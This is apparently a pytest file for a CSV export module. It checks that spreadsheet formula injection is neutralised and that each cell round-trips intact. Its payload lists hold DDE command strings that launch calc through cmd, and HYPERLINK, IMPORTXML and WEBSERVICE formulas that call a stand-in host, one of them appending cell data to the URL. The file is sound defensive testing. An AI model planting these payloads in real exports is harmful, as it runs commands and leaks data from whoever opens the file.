"""CSV-1: no cell of an export is a formula to any reader, and every cell comes back as it was."""

from __future__ import annotations

import csv
import io
import random
import shutil
import subprocess
from pathlib import Path

import pytest

from chime.exports.table import csv_line, field_text, field_value, guarded, unguarded

# What has been used against spreadsheets, and ways to hide the first sign.
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BODIES = ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?a=\"&A1,\"x\")", "SUM(1,1)*cmd|' /C calc'!A0",
          "IMPORTXML(\"http://x.example\",\"//a\")", "DDE(\"cmd\";\"/C calc\";\"a\")", "WEBSERVICE(\"http://x.example\")")
BEFORE = ("", " ", "\ufeff", "\u00a0", "  ", "\u200b", "\ufeff ")
PAYLOADS = tuple(before + sign + words for before in BEFORE for sign in SIGNS for words in BODIES)
ALPHABET = ("=+-@\t\r\n\"',; '\u00a0\ufeff\u200b\u2028\u202e|%!&<>\\/0123456789abcXYZ"
            "äßçğнлहिन्दी日本語🙂\u200d\u0301\x00\x0b\x1f")
DANGEROUS = frozenset("=+-@\t\r＝＋－＠")


def strange(count: int) -> list[str]:
    chance = random.Random(20261121)
    return ["".join(chance.choice(ALPHABET) for _ in range(chance.randrange(0, 24))) for _ in range(count)]


def written(cells: list[str]) -> bytes:
    return "".join(csv_line((cell, "beside", cell)) for cell in cells).encode()


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


def assert_harmless(cells: list[str]) -> None:
    data = written(cells)
    found = read(data)
    assert len(found) == len(cells)
    for cell, row in zip(cells, found, strict=True):
        assert [unguarded(one) for one in row] == [cell, "beside", cell]
        for one in row:
            bare = one.lstrip(" \u00a0\ufeff\u200b")
            assert one[:1] not in DANGEROUS and bare[:1] not in DANGEROUS, (cell, one)
    assert data.count(b"\r\n") >= len(cells) and data.endswith(b"\r\n")


def test_known_attacks() -> None:
    assert len(PAYLOADS) >= 300
    assert_harmless(list(PAYLOADS))


def test_many_strange_cells() -> None:
    assert_harmless(strange(2_000))


@pytest.mark.nightly
def test_very_many_strange_cells() -> None:
    assert_harmless(strange(20_000))


def test_what_is_no_formula_is_left_as_it_is() -> None:
    for plain in ("Maya", "1-1", "a=b", " Maya", "", "5", "über", "(+1) 415", "#1"):
        assert guarded(plain) == plain
    assert guarded("'quoted'") == "''quoted'" and unguarded(guarded("'quoted'")) == "'quoted'"
    assert csv_line(('say "hi"', "a,b")) == '"say ""hi""","a,b"\r\n'


def test_fields_keep_their_kind() -> None:
    for value in ("", "5", 5, 5.5, True, False, "true", "null", '"yes"', "-1", "plain", "1e5", "nine", "t", '"', "0x"):
        told = field_value(field_text(value))
        assert told == value and type(told) is type(value), value


OFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_a_second_reader_evaluates_nothing(tmp_path: Path) -> None:
    cells = [cell for cell in PAYLOADS if not set("\r\n\t") & set(cell)]
    source = tmp_path / "cells.csv"
    source.write_bytes(written(cells))
    (tmp_path / "out").mkdir()
    subprocess.run([str(OFFICE), "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false", "--outdir", str(tmp_path / "out"),
                    str(source)], check=True, capture_output=True, timeout=110)
    found = list(csv.reader(io.StringIO((tmp_path / "out" / "cells.csv").read_text("utf-8"), newline="")))
    assert [unguarded(row[0]) for row in found] == cells
